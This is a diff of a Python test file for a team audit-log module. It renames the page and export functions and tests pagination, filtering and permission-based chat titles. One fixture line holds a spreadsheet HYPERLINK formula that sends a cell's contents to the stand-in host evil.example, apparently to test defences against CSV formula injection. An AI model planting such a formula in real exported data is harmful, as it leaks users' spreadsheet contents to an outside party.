@@ -22,7 +22,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Click")'
 
 
 async def table(d, team_id: str, by: str = ADA) -> list[list[str]]:
-    pieces = await audit.export(d, by, team_id)
+    pieces = await audit.export_csv(d, by, team_id)
     return list(csv.reader(io.StringIO("".join([piece async for piece in pieces]))))
 
 
@@ -40,10 +40,10 @@ def test_every_action_has_words():
 async def test_what_was_done_is_read_page_by_page_newest_first(d):
     made = await team(d)
     await fill(d, made, AUDIT_PAGE * 2)
-    first = await audit.page(d, ADA, made)
+    first = await audit.list_entries(d, ADA, made)
     assert first.entries[0].subject_id == f"chat {AUDIT_PAGE * 2 - 1}"
-    second = await audit.page(d, ADA, made, before=first.entries[-1].id)
-    third = await audit.page(d, ADA, made, before=second.entries[-1].id)
+    second = await audit.list_entries(d, ADA, made, before=first.entries[-1].id)
+    third = await audit.list_entries(d, ADA, made, before=second.entries[-1].id)
     assert (first.more, second.more, third.more) == (True, True, False)
     assert [it.action for it in third.entries] == [Action.TEAM_CREATED]
     shown = [it.id for page in (first, second, third) for it in page.entries]
@@ -62,7 +62,7 @@ async def test_a_chat_is_named_to_who_may_see_it(d):
         session.add_all([shared, private])
         for chat in (shared, private):
             await audit.record(session, ADA, made, Action.LINK_MADE, subject_id=chat.id)
-    mine, theirs = await audit.page(d, ADA, made), await audit.page(d, admin, made)
+    mine, theirs = await audit.list_entries(d, ADA, made), await audit.list_entries(d, admin, made)
     assert mine.titles == {shared.id: "Boats", private.id: "Secrets"}
     assert theirs.titles == {shared.id: "Boats"}
 
@@ -70,16 +70,16 @@ async def test_a_chat_is_named_to_who_may_see_it(d):
 async def test_one_kind_of_action_can_be_looked_for(d):
     made = await team(d)
     await fill(d, made, 2)
-    page = await audit.page(d, ADA, made, action=Action.TEAM_CREATED)
+    page = await audit.list_entries(d, ADA, made, action=Action.TEAM_CREATED)
     assert [it.action for it in page.entries] == [Action.TEAM_CREATED]
-    assert (await audit.page(d, ADA, made, action=Action.ROLE_CHANGED)).entries == []
+    assert (await audit.list_entries(d, ADA, made, action=Action.ROLE_CHANGED)).entries == []
 
 
 @pytest.mark.parametrize("asked", [{"before": "\0"}, {"before": "x" * 300}, {"action": "x"}])
 async def test_a_page_there_cannot_be_is_refused(d, asked):
     made = await team(d)
     with pytest.raises(BadRequest):
-        await audit.page(d, ADA, made, **asked)
+        await audit.list_entries(d, ADA, made, **asked)
 
 
 async def test_a_team_reads_only_what_was_done_in_it(d):
